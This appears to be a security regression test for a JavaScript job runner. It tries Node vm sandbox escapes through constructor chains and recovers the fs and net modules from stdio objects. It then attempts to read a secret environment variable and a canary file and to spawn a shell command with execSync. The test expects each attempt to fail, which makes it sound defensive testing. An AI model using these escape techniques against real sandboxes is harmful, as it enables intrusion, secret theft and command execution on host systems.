// about: classic Node vm escapes: vm.runInNewContext('this.constructor.constructor("return process")()') and via a sandbox object, then read the canary and secret env and spawn a shell from the escaped process
// expect-status: ok
// expect-result-has: {"leaked": false, "read_canary": false, "spawned": false}
// control: skip the runner removes process.getBuiltinModule/binding and does not allowlist vm, so it is unreachable from jobs even unsandboxed; kept as defence in depth against a runner regression
// limits: {"timeout_ms": 8000, "memory_mib": 128}
// Built-ins the way an attacker gets them: getBuiltinModule/require first; if the runner removed those back doors,
// dig them out of objects the runtime still exposes (an fs stream keeps the whole fs module under its kFs symbol -
// process.stdin is an fs.ReadStream when fd 0 is /dev/null - and stdio sockets hand out the net.Socket class).
const mod = (n) => {
  try { const m = process.getBuiltinModule && process.getBuiltinModule(n); if (m) return m; } catch (_) {}
  try { const m = require(n); if (m) return m; } catch (_) {}
  try {
    if (n === 'fs') for (const k of ['stdin', 'stdout', 'stderr']) { const s = process[k]; const y = s && Object.getOwnPropertySymbols(s).find((x) => x.description === 'kFs'); if (y && s[y] && typeof s[y].readFileSync === 'function') return s[y]; }
    if (n === 'net') for (const k of ['stdout', 'stderr', 'stdin']) { const C = process[k] && process[k].constructor; if (typeof C === 'function' && C.name === 'Socket' && typeof C.prototype.connect === 'function') return { Socket: C, connect: (...a) => new C().connect(...a), createConnection: (...a) => new C().connect(...a) }; }
  } catch (_) {}
  return null;
};
const errc = (e) => (e && typeof e === 'object' && (e.code || e.name)) ? String(e.code || e.name) : String(e);
const I = (typeof inputs === 'object' && inputs) ? inputs : {};
const vm = mod('vm');

const out = { vm_available: !!vm, escaped: false, leaked: false, read_canary: false, spawned: false, routes: {}, errors: {} };
const payloads = {
  this_constructor: () => vm.runInNewContext('this.constructor.constructor("return process")()'),
  sandbox_object: () => vm.runInNewContext('s.constructor.constructor("return process")()', { s: {} }),
  script_in_context: () => new vm.Script('this.constructor.constructor("return process")()').runInContext(vm.createContext({})),
};
let P = null;
for (const [k, f] of Object.entries(payloads)) {
  try { const p = f(); out.routes[k] = !!(p && p.pid); if (p && p.pid && !P) P = p; } catch (e) { out.routes[k] = errc(e); }
}
out.escaped = !!P;
if (P) {
  try { out.leaked = Object.prototype.hasOwnProperty.call(P.env, String(I.env_secret_name)); } catch (e) { out.errors.env = errc(e); }
  const load = (n) => {
    try { const m = P.getBuiltinModule(n); if (m) return m; } catch (_) {}
    try { const m = P.mainModule.require(n); if (m) return m; } catch (_) {}
    try { if (n === 'fs') { const s = P.stdin; const y = Object.getOwnPropertySymbols(s).find((x) => x.description === 'kFs'); if (y) return s[y]; } } catch (_) {}
    return null;
  };
  try { load('fs').readFileSync(String(I.canary_path)); out.read_canary = true; } catch (e) { out.errors.read = errc(e); }
  try { const s = load('child_process').execSync('id', { timeout: 2000 }).toString(); out.spawned = /uid=/.test(s); } catch (e) { out.errors.spawn = errc(e); }
}
return out;
